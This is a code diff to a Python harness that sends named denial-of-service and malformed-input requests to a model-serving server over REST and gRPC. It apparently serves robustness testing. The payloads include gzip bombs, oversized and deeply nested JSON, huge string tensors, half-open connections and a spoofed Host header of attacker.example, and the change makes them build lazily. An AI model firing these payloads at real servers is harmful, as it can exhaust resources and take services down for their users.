@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import argparse
 import dataclasses
+import functools
 import gzip
 import multiprocessing
 import pathlib
@@ -52,11 +53,16 @@ Attack = Callable[[Server], str]
 """Sends one and returns what was answered."""
 
 
-def _rest(path: str, body: bytes, **headers: str) -> Attack:
+def _rest(path: str, make: Callable[[], bytes], **headers: str) -> Attack:
+    named = {name.replace("_", "-"): value for name, value in headers.items()}
+    body = functools.cache(make)
+
     def send(server: Server) -> str:
-        named = {name.replace("_", "-"): value for name, value in headers.items()}
+        content = body()
         try:
-            answer = httpx.post(server.rest + path, content=body, headers=named, timeout=_SECONDS)
+            answer = httpx.post(
+                server.rest + path, content=content, headers=named, timeout=_SECONDS
+            )
         except httpx.HTTPError as error:
             return type(error).__name__
         return f"{answer.status_code} {answer.text[:100]}"
@@ -64,13 +70,15 @@ def _rest(path: str, body: bytes, **headers: str) -> Attack:
     return send
 
 
-def _rpc(message: bytes, compression: grpc.Compression | None = None) -> Attack:
+def _rpc(make: Callable[[], bytes], compression: grpc.Compression | None = None) -> Attack:
     options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
+    message = functools.cache(make)
 
     def send(server: Server) -> str:
+        content = message()
         with grpc.insecure_channel(server.grpc, options, compression) as channel:
             try:
-                channel.unary_unary(h2load.PREDICT)(message, timeout=_SECONDS)
+                channel.unary_unary(h2load.PREDICT)(content, timeout=_SECONDS)
             except grpc.RpcError as error:
                 return f"{error.code().name} {error.details()[:100]}"
         return "OK"
@@ -122,53 +130,83 @@ def _half_open(number: int) -> Attack:
     return send
 
 
+def _gzip_of_spaces(size: int) -> bytes:
+    """Of members, which a reader unpacks one after the other."""
+    member = min(size, 10 * 2**20)
+    return gzip.compress(b" " * member) * max(size // member, 1)
+
+
 def attacks(scale: float) -> dict[str, Attack]:
-    """All of them by name, of a size that is a part of what was found to do harm."""
+    """All of them by name, of a size that is a part of what was found to do harm. What they send
+    is made when it is first sent."""
 
     def part(number: int) -> int:
         return max(int(number * scale), 1)
 
     row = b"[" + b",".join([b"0"] * _PIXELS) + b"]"
-    ragged = b'{"signature_name":"predict_pixels","x":true,"instances":['
-    ragged += b",".join([row] * part(18_000)) + b",[1]]}"
-    examples = b'{"examples":[' + b",".join([b'{"image":' + row + b"}"] * part(18_000)) + b"]}"
-    many = {f"a{i}": _one_float(part(2**26)) for i in range(8)}
-    text = tensor(DataType.STRING, (part(2**25),), field(8, b"x"))
-    flood = tensor(DataType.STRING, (1,), b"\x42\x00" * part(12 * 2**20))
-    bad_example = tensor(DataType.STRING, (1,), field(8, b"\xff\xff"))
-    predict_path = f"{PATH}:predict"
+    example = b'{"image":' + row + b"}"
+
+    def rows() -> bytes:
+        head = b'{"signature_name":"predict_pixels","x":true,"instances":['
+        return head + b",".join([row] * part(18_000)) + b",[1]]}"
+
+    def fewer_rows() -> bytes:
+        head = b'{"signature_name":"predict_pixels","x":true,"instances":['
+        return head + b",".join([row] * part(9_990)) + b",[1]]}"
+
+    def one_value(dtype: DataType, size: int, value: bytes) -> bytes:
+        return predict("predict_encoded", image_bytes=tensor(dtype, (size,), value))
+
+    def images(number: int) -> Callable[[], bytes]:
+        return lambda: predict("serving_default", image=_one_float(number, *subject.SHAPE))
+
+    path = f"{PATH}:predict"
+    text = field(8, b"x")
     return {
-        "ragged JSON rows": _rest(predict_path, ragged),
+        "ragged JSON rows": _rest(path, rows),
+        "ragged JSON rows, as many as are taken": _rest(path, fewer_rows),
         "JSON of empty lists": _rest(
-            predict_path, b'{"instances":[' + b"[]," * part(10 * 2**20) + b"1]}"
+            path, lambda: b'{"instances":[' + b"[]," * part(10 * 2**20) + b"1]}"
         ),
-        "classify without such a signature": _rest(f"{PATH}:classify", examples),
+        "classify without such a signature": _rest(
+            f"{PATH}:classify",
+            lambda: b'{"examples":[' + b",".join([example] * part(18_000)) + b"]}",
+        ),
         "gzip of spaces": _rest(
-            predict_path, gzip.compress(b" " * part(1000 * 2**20)), Content_Encoding="gzip"
+            path, lambda: _gzip_of_spaces(part(1000 * 2**20)), Content_Encoding="gzip"
         ),
-        "gRPC gzip bomb": _rpc(bytes(part(400 * 2**20)), grpc.Compression.Gzip),
-        "string tensor of one value": _rpc(predict("predict_encoded", image_bytes=text)),
-        "unknown aliases of one value": _rpc(predict("serving_default", **many)),
-        "images of one value": _rpc(
-            predict("serving_default", image=_one_float(part(20_000), *subject.SHAPE))
+        "gRPC gzip bomb": _rpc(lambda: bytes(part(100 * 2**20)), grpc.Compression.Gzip),
+        "string tensor of one value": _rpc(lambda: one_value(DataType.STRING, part(2**25), text)),
+        "unknown aliases of one value": _rpc(
+            lambda: predict(
+                "serving_default", **{f"a{i}": _one_float(part(2**26)) for i in range(8)}
+            )
         ),
-        "as many as are taken": _rpc(
-            predict("serving_default", image=_one_float(part(10_000), *subject.SHAPE))
+        "images of one value": _rpc(images(part(20_000))),
+        "images of one value, as many as are taken": _rpc(images(part(10_000))),
+        "flood of empty strings": _rpc(
+            lambda: one_value(DataType.STRING, 1, b"\x42\x00" * part(12 * 2**20))
         ),
-        "flood of empty strings": _rpc(predict("predict_encoded", image_bytes=flood)),
-        "a wrong shape of 256 MB": _rpc(predict("serving_default", image=_one_float(part(2**26)))),
+        "a wrong shape of 256 MB": _rpc(
+            lambda: predict("serving_default", image=_one_float(part(2**26)))
+        ),
         "half-open connections": _half_open(part(600)),
-        "version of 5,000 digits": _rest(f"{PATH}/versions/{'9' * 5000}:predict", b"{}"),
-        "34 nested lists": _rest(predict_path, _nested(34)),
-        "990 nested lists": _rest(predict_path, _nested(990)),
-        "integer of 5,000 digits": _rest(predict_path, b'{"instances":[' + b"9" * 5000 + b"]}"),
-        "lone surrogate": _rest(predict_path, b'{"signature_name":"\\ud800","instances":["a"]}'),
-        "unknown Content-Encoding": _rest(predict_path, b"{}", Content_Encoding="br"),
-        "tf.Example of ff ff": _rpc(predict("predict_examples", examples=bad_example)),
-        "no image": _rpc(
-            predict("serving_default", image=tensor(DataType.FLOAT, (0, *subject.SHAPE)))
+        "version of 5,000 digits": _rest(f"{PATH}/versions/{'9' * 5000}:predict", lambda: b"{}"),
+        "34 nested lists": _rest(path, lambda: _nested(34)),
+        "990 nested lists": _rest(path, lambda: _nested(990)),
+        "integer of 5,000 digits": _rest(path, lambda: b'{"instances":[' + b"9" * 5000 + b"]}"),
+        "lone surrogate": _rest(path, lambda: b'{"signature_name":"\\ud800","instances":["a"]}'),
+        "unknown Content-Encoding": _rest(path, lambda: b"{}", Content_Encoding="br"),
+        "tf.Example of ff ff": _rpc(
+            lambda: predict(
+                "predict_examples",
+                examples=tensor(DataType.STRING, (1,), field(8, b"\xff\xff")),
+            )
         ),
-        "a name of its own": _rest(predict_path, b"{}", Host="attacker.example"),
+        "no image": _rpc(
+            lambda: predict("serving_default", image=tensor(DataType.FLOAT, (0, *subject.SHAPE)))
+        ),
+        "a name of its own": _rest(path, lambda: b"{}", Host="attacker.example"),
     }
 
 
